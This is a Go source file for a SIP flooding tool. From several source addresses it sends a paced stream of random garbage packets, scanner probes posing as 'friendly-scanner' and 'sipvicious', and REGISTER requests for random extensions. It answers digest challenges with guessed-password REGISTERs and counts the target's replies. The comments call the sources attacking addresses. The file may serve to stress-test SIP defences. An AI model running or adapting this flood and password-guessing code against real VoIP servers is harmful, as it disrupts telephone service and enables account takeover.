package main

import (
	"context"
	"math/rand/v2"
	"net"
	"net/netip"
	"strconv"
	"sync"
	"sync/atomic"
	"time"
)

// source is one attacking address: a socket, and the challenges it got
// back that wait for their guessed-password REGISTER.
type source struct {
	conn    *net.UDPConn
	ip      string
	port    int
	pending chan pendingAuth
}

type pendingAuth struct {
	user, callID, challenge string
}

type flooder struct {
	cfg     config
	dst     *net.UDPAddr
	sources []*source
	plan    [100]kind // kind of the i-th message of every hundred

	sent     [numKinds]atomic.Uint64
	guesses  atomic.Uint64 // REGISTERs with a wrong digest, counted in register too
	sendErrs atomic.Uint64
	mu       sync.Mutex
	answers  map[string]uint64 // "METHOD status" → count
}

// summary is what the flood prints.
type summary struct {
	Target     string            `json:"target"`
	Sources    int               `json:"sources"`
	RateTarget int               `json:"rate_target"`
	Seconds    float64           `json:"seconds"`
	Sent       uint64            `json:"sent"`
	RateSent   float64           `json:"rate_sent"`
	ByKind     map[string]uint64 `json:"by_kind"`
	Guesses    uint64            `json:"password_guesses"`
	SendErrors uint64            `json:"send_errors"`
	Answers    map[string]uint64 `json:"answers"`
}

func newFlooder(cfg config) (*flooder, error) {
	f := &flooder{cfg: cfg, dst: net.UDPAddrFromAddrPort(cfg.target), answers: map[string]uint64{}}
	i := 0
	for k, pct := range cfg.mix {
		for j := 0; j < pct; j++ {
			f.plan[i] = kind(k)
			i++
		}
	}
	// Interleave the kinds so each 1 ms batch carries all of them.
	rand.New(rand.NewPCG(1, 2)).Shuffle(len(f.plan), func(a, b int) { f.plan[a], f.plan[b] = f.plan[b], f.plan[a] })
	for _, ip := range cfg.sources {
		c, err := net.ListenUDP("udp", net.UDPAddrFromAddrPort(netip.AddrPortFrom(ip, 0)))
		if err != nil {
			f.close()
			return nil, err
		}
		_ = c.SetReadBuffer(1 << 20)
		f.sources = append(f.sources, &source{conn: c, ip: ip.String(), port: c.LocalAddr().(*net.UDPAddr).Port,
			pending: make(chan pendingAuth, 256)})
	}
	return f, nil
}

func (f *flooder) close() {
	for _, s := range f.sources {
		s.conn.Close()
	}
}

func (f *flooder) run(ctx context.Context) summary {
	var wg sync.WaitGroup
	for _, s := range f.sources {
		wg.Add(1)
		go func() { defer wg.Done(); f.read(s) }()
	}
	start := time.Now()
	f.send(ctx, start)
	el := time.Since(start)
	// Answers still on their way are counted for a second, then the sockets close.
	time.Sleep(time.Second)
	f.close()
	wg.Wait()
	s := summary{Target: f.cfg.target.String(), Sources: len(f.sources), RateTarget: f.cfg.rate,
		Seconds: round1(el.Seconds()), ByKind: map[string]uint64{}, Guesses: f.guesses.Load(),
		SendErrors: f.sendErrs.Load(), Answers: f.answers}
	for k := range numKinds {
		s.ByKind[kindNames[k]] = f.sent[k].Load()
		s.Sent += f.sent[k].Load()
	}
	s.RateSent = round1(float64(s.Sent) / el.Seconds())
	return s
}

func round1(x float64) float64 { return float64(int64(x*10+0.5)) / 10 }

// send paces the messages: every millisecond it sends what the rate owes
// since the start, round-robin over the sources, until count or duration.
func (f *flooder) send(ctx context.Context, start time.Time) {
	tick := time.NewTicker(time.Millisecond)
	defer tick.Stop()
	deadline := start.Add(f.cfg.duration)
	garbage := make([]byte, 512)
	rng := rand.New(rand.NewPCG(uint64(start.UnixNano()), 7))
	var n uint64
	for {
		select {
		case <-ctx.Done():
			return
		case now := <-tick.C:
			if !now.Before(deadline) {
				return
			}
			owed := min(uint64(f.cfg.rate)*uint64(now.Sub(start))/uint64(time.Second), uint64(f.cfg.count))
			for ; n < owed; n++ {
				s := f.sources[n%uint64(len(f.sources))]
				k := f.plan[n%100]
				var msg []byte
				switch k {
				case kindGarbage:
					msg = garbage[:64+rng.IntN(len(garbage)-64)]
					for i := range msg {
						msg[i] = byte(rng.Uint32())
					}
				case kindScanner:
					ua := "friendly-scanner"
					if n%2 == 1 {
						ua = "sipvicious"
					}
					msg = scanner(f.dst.IP.String(), s.ip, s.port, ua, n)
				case kindRegister:
					msg = f.registerMsg(s, rng, n)
				}
				if _, err := s.conn.WriteToUDP(msg, f.dst); err != nil {
					f.sendErrs.Add(1)
					continue
				}
				f.sent[k].Add(1)
			}
			if n >= uint64(f.cfg.count) {
				return
			}
		}
	}
}

// registerMsg is the guessed-password answer to a challenge this source
// got back, or else a first REGISTER for a random extension.
func (f *flooder) registerMsg(s *source, rng *rand.Rand, n uint64) []byte {
	dst := f.dst.IP.String()
	select {
	case p := <-s.pending:
		if auth, ok := authorization(p.challenge, p.user, "sip:"+dst, strconv.FormatUint(n, 16)); ok {
			f.guesses.Add(1)
			return register(dst, s.ip, s.port, p.user, p.callID, 2, auth, n)
		}
	default:
	}
	user := strconv.Itoa(f.cfg.userLo + rng.IntN(f.cfg.userHi-f.cfg.userLo+1))
	return register(dst, s.ip, s.port, user, "cr"+user+"-"+strconv.FormatUint(n, 16), 1, "", n)
}

// read counts the answers to one source and queues the challenges.
func (f *flooder) read(s *source) {
	buf := make([]byte, 65535)
	local := map[string]uint64{}
	defer func() {
		f.mu.Lock()
		for k, v := range local {
			f.answers[k] += v
		}
		f.mu.Unlock()
	}()
	for {
		n, err := s.conn.Read(buf)
		if err != nil {
			return
		}
		r := parseResponse(buf[:n])
		if r.status == 0 {
			local["unparsed"]++
			continue
		}
		local[r.method+" "+strconv.Itoa(r.status)]++
		if (r.status == 401 || r.status == 407) && r.method == "REGISTER" && r.challenge != "" {
			if user, ok := userOfCallID(r.callID); ok {
				select {
				case s.pending <- pendingAuth{user: user, callID: r.callID, challenge: r.challenge}:
				default: // the guesser is behind: forget this one
				}
			}
		}
	}
}
